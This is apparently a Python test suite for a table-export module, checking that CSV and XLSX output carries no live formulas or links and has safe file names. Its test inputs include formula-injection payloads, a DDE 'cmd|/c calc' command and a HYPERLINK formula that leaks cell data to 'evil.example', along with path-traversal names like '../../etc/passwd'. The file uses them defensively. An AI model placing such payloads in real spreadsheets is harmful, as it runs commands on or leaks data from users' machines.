"""Tables as files for spreadsheets: whole, and with nothing in them that computes."""

from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from forthwith.pipelines.documents.models import Table
from forthwith.pipelines.documents.presenting.table_cells import (
    as_figure,
    as_text,
    fitting,
    is_number,
)
from forthwith.pipelines.documents.presenting.table_csv import one_csv, to_csv
from forthwith.pipelines.documents.presenting.table_xlsx import sheet_names, to_xlsx

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    ' "=1"',
    "\u200b=1",
    "\uff1d1+1",
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "a;=1+1",
    "a\n=1+1",
    'a;"=1"',
)
NUMBERS = ("-12.5", "+3", "-1,234.50", "-1.234,5", "-3 %", "0")
cells = st.one_of(
    st.text(max_size=20),
    st.text(alphabet="=+-@;,\t\r\n\"' a1.\u200b\uff1d\u00a0", max_size=12),
    st.sampled_from(FORMULAS + NUMBERS),
)
tables = st.lists(st.lists(cells, max_size=5), max_size=5).map(lambda rows: Table(rows=rows))


def read(body: bytes, delimiter: str = ",") -> list[list[str]]:
    text = io.StringIO(body.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter))


def begins_a_formula(cell: str) -> bool:
    return cell.lstrip()[:1] in {*"=+-@\uff1d\uff0b\uff0d\uff20"}


@given(table=tables, delimiter=st.sampled_from(",;\t"))
@example(table=Table(rows=[["x", 'a;"=1"']]), delimiter=";")
@example(table=Table(rows=[["", "\r-0"]]), delimiter=";")
@settings(max_examples=300, deadline=None)
def test_no_cell_of_a_csv_begins_as_a_formula_unless_it_is_a_number(
    table: Table, delimiter: str
) -> None:
    """However the program that reads it splits the lines; then a number may have a tail."""
    made = to_csv([table])
    for row in read(made.body, delimiter) if made else []:
        for cell in row:
            figure = cell if delimiter == "," else cell.partition(",")[0]
            assert not begins_a_formula(cell) or is_number(figure.strip()), (row, cell)
            assert delimiter != "," or not cell.startswith(("\t", "\r")), (row, cell)


@pytest.mark.parametrize("cell", NUMBERS)
def test_a_plain_number_is_left_alone(cell: str) -> None:
    assert as_text(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_not_left_alone(cell: str) -> None:
    assert "'" in as_text(cell)
    assert not begins_a_formula(as_text(cell))
    assert not as_text(cell).startswith(("\t", "\r"))


@given(st.text(alphabet=st.characters(categories=("L", "N", "P", "Zs")), max_size=30))
def test_a_cell_that_is_no_formula_keeps_its_words(cell: str) -> None:
    if not re.search(r"(^|;)[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell):
        assert as_text(cell) == cell


def test_one_table_is_one_file_that_spreadsheets_read_as_utf_8() -> None:
    made = to_csv([Table(rows=[["Größe", "a,b"], ["1"]]), Table(rows=[["", " "]])])

    assert made is not None
    assert (made.media_type, made.extension) == ("text/csv; charset=utf-8", "csv")
    assert made.body == '\ufeffGröße,"a,b"\r\n1,\r\n'.encode()


def test_no_table_is_no_file() -> None:
    assert to_csv([Table(rows=[])]) is None
    assert to_xlsx([Table(rows=[[""]])], "x") is None


def test_several_tables_are_an_archive_of_files_with_safe_names() -> None:
    titles = ["../../etc/passwd", "C:\\x", "CON", None, "a" * 300, "\u202egnp", "../../etc/passwd"]
    made = to_csv([Table(title=title, rows=[["a"], [str(title)]]) for title in titles])

    assert made is not None
    assert (made.media_type, made.extension) == ("application/zip", "zip")
    with zipfile.ZipFile(io.BytesIO(made.body)) as archive:
        names = archive.namelist()
        assert len(set(names)) == len(titles)
        assert all(re.fullmatch(r"table-\d{3}(-[a-z0-9-]{1,40})?\.csv", name) for name in names)
        assert read(archive.read(names[0])) == [["a"], ["../../etc/passwd"]]


def workbook(*tables: Table) -> openpyxl.Workbook:
    made = to_xlsx(tables, "Title")
    assert made is not None
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return openpyxl.load_workbook(io.BytesIO(made.body))


def test_a_workbook_has_an_overview_and_a_sheet_for_each_table() -> None:
    book = workbook(
        Table(title="Costs", page=3, rows=[["Item", "Sum"], ["x", "1"]], truncated=True),
        Table(rows=[["y"]]),
    )

    assert book.sheetnames == ["Overview", "1 Costs", "2"]
    listed = [[cell.value for cell in row] for row in book["Overview"].iter_rows(min_row=4)]
    assert listed == [
        ["1 Costs", "Costs", 3, 2, 2, "no: its rest was left out"],
        ["2", None, None, 1, 1, "yes"],
    ]


def test_nothing_in_a_workbook_is_a_formula_or_a_link() -> None:
    hostile = [*FORMULAS, "http://evil.example", "mailto:a@b.example", "{=1+1}", "internal:A1"]
    made = to_xlsx([Table(title="=1+1", rows=[[cell] for cell in hostile])], "=1+1")

    assert made is not None
    with zipfile.ZipFile(io.BytesIO(made.body)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode()
            assert "<f>" not in text
            assert "hyperlink" not in text or "xml.rels" not in name
            assert "<hyperlink" not in text


@given(table=tables)
@settings(max_examples=60, deadline=None)
def test_every_cell_of_a_workbook_is_a_text_or_a_number(table: Table) -> None:
    if to_xlsx([table], "x") is None:
        return
    for row in workbook(table).worksheets[1].iter_rows():
        assert all(cell.data_type in "sn" for cell in row)


def test_a_number_is_a_number_only_where_nothing_is_lost() -> None:
    numbers = ["12.50", "-7", "007", "1.234", "12345678901234567", "1,5", "1e5", "=1"]
    book = workbook(Table(rows=[["head"], *([number] for number in numbers)]))

    shown = [row[0].value for row in book.worksheets[1].iter_rows(min_row=2)]
    assert shown == [12.5, -7, *numbers[2:]]
    assert book.worksheets[1]["A2"].number_format == "0.00"


@given(st.from_regex(r"-?[0-9]{1,17}(\.[0-9]{1,8})?", fullmatch=True))
def test_a_figure_says_exactly_what_stood_there(cell: str) -> None:
    figure = as_figure(cell)
    if figure is not None:
        assert f"{figure[0]:.{figure[1]}f}" == cell


@given(st.lists(st.text(max_size=40) | st.none(), min_size=1, max_size=12))
def test_sheet_names_are_unique_and_legal(titles: list[str | None]) -> None:
    names = sheet_names([Table(title=title, rows=[]) for title in titles])

    assert len({name.casefold() for name in names}) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in names)


@pytest.mark.parametrize("cell", ["x" * 40_000, "\U0001f600" * 20_000])
def test_a_cell_that_is_too_long_for_a_workbook_is_cut_with_a_mark(cell: str) -> None:
    cut = fitting(cell)

    assert cut.endswith("…")
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert workbook(Table(rows=[[cell]])).worksheets[1]["A1"].value == cut


def test_the_same_tables_give_the_same_bytes() -> None:
    tables_ = [Table(rows=[["a"], ["1"]]), Table(title="t", rows=[["b"]])]

    assert to_csv(tables_) == to_csv(tables_)
    assert to_xlsx(tables_, "x") == to_xlsx(tables_, "x")
    assert one_csv(tables_[0]) == one_csv(tables_[0])
